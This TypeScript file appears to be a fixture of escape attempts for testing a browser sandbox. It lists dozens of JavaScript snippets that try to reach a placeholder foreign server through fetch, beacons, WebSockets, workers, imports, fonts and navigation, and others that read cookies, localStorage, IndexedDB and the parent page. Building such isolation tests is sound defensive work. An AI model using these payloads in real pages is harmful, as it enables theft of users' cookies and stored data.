// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the placeholders belong to the attacks' own templates.

/**
 * Ways out of a cell, as bodies of async functions. `url` and `socket` are addresses of a foreign server (http and ws),
 * `page` is the origin of the reader's page. Each may throw; none may be heard by a server.
 */
export const waysOut: Record<string, string> = {
  fetch: 'await fetch(url + "fetch")',
  'fetch without cors': 'await fetch(url + "no-cors", { mode: "no-cors", method: "POST", body: "x" })',
  'fetch with keepalive': 'await fetch(url + "keepalive", { keepalive: true })',
  'fetch later': 'fetchLater(url + "later", { activateAfter: 0 })',
  'fetch of the page with its cookies': 'await fetch(page + "/steal", { credentials: "include", mode: "no-cors" })',
  'a relative fetch': 'await fetch("/steal")',
  'an XMLHttpRequest': 'const x = new XMLHttpRequest(); x.open("GET", url + "xhr"); x.send()',
  'a synchronous XMLHttpRequest': 'const x = new XMLHttpRequest(); x.open("GET", url + "xhr-sync", false); x.send()',
  'a WebSocket': 'new WebSocket(socket)',
  'a WebSocketStream': 'await new WebSocketStream(socket).opened',
  'an EventSource': 'new EventSource(url + "events")',
  'a WebTransport': 'await new WebTransport(url.replace("http:", "https:") + "transport").ready',
  'a peer connection': `const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + new URL(url).host }] })
    peer.createDataChannel("x"); await peer.setLocalDescription(await peer.createOffer())`,
  'a beacon': 'navigator.sendBeacon(url + "beacon", "x")',
  'a dynamic import': 'await eval("import(url + \\"import\\")")',
  'a dynamic import in new Function': 'await new Function("u", "return import(u)")(url + "import-function")',
  'an import of data: that imports': 'await eval("import(`data:text/javascript,import \\"${url}import-data\\"`)")',
  importScripts: 'importScripts(url + "scripts")',
  'importScripts of data:': 'importScripts(`data:text/javascript,fetch("${url}scripts-data")`)',
  'a worker from the server': 'new Worker(url + "worker")',
  'a module worker that imports': 'new Worker(`data:text/javascript,import "${url}module-worker"`, { type: "module" })',
  'a data: worker that fetches': 'new Worker(`data:text/javascript,fetch("${url}data-worker", { mode: "no-cors" })`)',
  'a data: worker that loads scripts': 'new Worker(`data:text/javascript,importScripts("${url}data-scripts")`)',
  'a data: worker with a socket': 'new Worker(`data:text/javascript,new WebSocket("${socket}")`)',
  'a data: worker in a data: worker': `const inner = "data:text/javascript," + encodeURIComponent('fetch("' + url + 'nested", { mode: "no-cors" })')
    new Worker("data:text/javascript," + encodeURIComponent("new Worker(" + JSON.stringify(inner) + ")"))`,
  'a blob: worker that fetches': `new Worker(URL.createObjectURL(new Blob(['fetch("' + url + 'blob-worker", { mode: "no-cors" })'])))`,
  'a shared worker': 'new SharedWorker(`data:text/javascript,fetch("${url}shared")`)',
  'a service worker': 'await navigator.serviceWorker.register(url + "service")',
  'a font': 'await new FontFace("stolen", `url(${url}font)`).load()',
  'a font of a canvas': `const canvas = new OffscreenCanvas(9, 9); const context = canvas.getContext("2d")
    context.filter = "url(" + url + "filter#x)"; context.font = "9px stolen"; context.fillText("x", 1, 9)
    await canvas.convertToBlob()`,
  'an image': 'const image = new Image(); image.src = url + "image"',
  'a bitmap': 'await createImageBitmap(await (await fetch(url + "bitmap")).blob())',
  'a WebAssembly stream': 'await WebAssembly.compileStreaming(fetch(url + "wasm"))',
  'the cache': 'const cache = await caches.open("x"); await cache.add(url + "cache")',
  'a background fetch':
    'const r = await navigator.serviceWorker.ready; await r.backgroundFetch.fetch("x", [url + "background"])',
  'a timer with text': 'setTimeout(`fetch("${url}timer", { mode: "no-cors" })`, 0)',
  'a constructor of another function':
    '(async () => {}).constructor(`await fetch("${url}constructor", { mode: "no-cors" })`)()',
  'another location': 'self.location = url + "location"; self.location.assign?.(url + "assign")',
  'a new window': '(self.open ?? (0, eval)("window.open"))(url + "open")',
  'the parent': 'self.parent.location = url + "parent"; self.top.location = url + "top"',
  'a hint': 'document.head.innerHTML = `<link rel="dns-prefetch" href="${url}"><link rel="preconnect" href="${url}">`',
  'a report': 'new ReportingObserver(() => {}).observe(); reportError(new Error(url + "report"))',
  'a download': 'const a = document.createElement("a"); a.href = url + "download"; a.download = ""; a.click()',
  'a source map': '(0, eval)(`1\\n//# sourceMappingURL=${url}map`)',
  'a message to the frame': `self.postMessage({ type: "boot", url: url + "frame" })
    self.postMessage({ script: 'fetch("' + url + 'frame-script")' })`,
}

/** Ways to read what belongs to the reader: each returns what it found. */
export const waysIn: Record<string, string> = {
  cookies: 'return document.cookie',
  'the cookie store': 'return JSON.stringify(await cookieStore.getAll())',
  localStorage: 'return localStorage.secret',
  sessionStorage: 'return sessionStorage.secret',
  IndexedDB: `return await new Promise((resolve, reject) => {
    const open = indexedDB.open("secrets"); open.onerror = () => reject(open.error)
    open.onsuccess = () => { const all = open.result.transaction("s").objectStore("s").getAll(); all.onsuccess = () => resolve(String(all.result)) }
  })`,
  'the cache': 'return await (await (await caches.open("secrets")).match(page + "/secret")).text()',
  'the file system of the origin': 'return [...await navigator.storage.getDirectory()].join()',
  'a broadcast of the page': `return await new Promise((resolve) => {
    const channel = new BroadcastChannel("secrets"); channel.onmessage = ({ data }) => resolve(data)
    channel.postMessage("who?"); setTimeout(resolve, 500, "")
  })`,
  'a lock of the page': 'return JSON.stringify(await navigator.locks.query())',
  'the page itself': 'return self.parent.document.title',
  'the address of the page': 'return self.location.href + [...(self.location.ancestorOrigins ?? [])]',
  'the page that led here': 'return document.referrer',
}
